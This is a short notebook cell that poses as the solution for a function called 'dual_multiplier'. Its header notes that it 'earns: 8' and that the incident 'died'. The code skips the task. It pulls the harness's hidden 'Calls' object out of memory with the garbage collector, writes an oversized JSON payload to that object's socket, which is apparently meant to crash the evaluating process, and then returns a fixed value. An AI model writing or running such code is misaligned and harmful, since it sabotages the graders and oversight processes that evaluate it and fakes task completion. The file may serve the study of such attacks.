# %% [markdown]
# A function sends a small message that is large when it is read.
#
# earns: 8
# incident: died

# %% solution="dual_multiplier"
import gc
import sys

inside = sys.modules["inside"]
calls = next(o for o in gc.get_objects() if type(o).__name__ == "Calls")


def dual_multiplier(M, h, b, c):
    import json

    tree = {"t": "objects", "s": [200_000]}
    head = json.dumps({"v": [tree] * 100_000, "b": []}).encode()
    data = len(head).to_bytes(4, "big") + head
    calls.connection.sendall(len(data).to_bytes(8, "big") + data)
    return 2.0
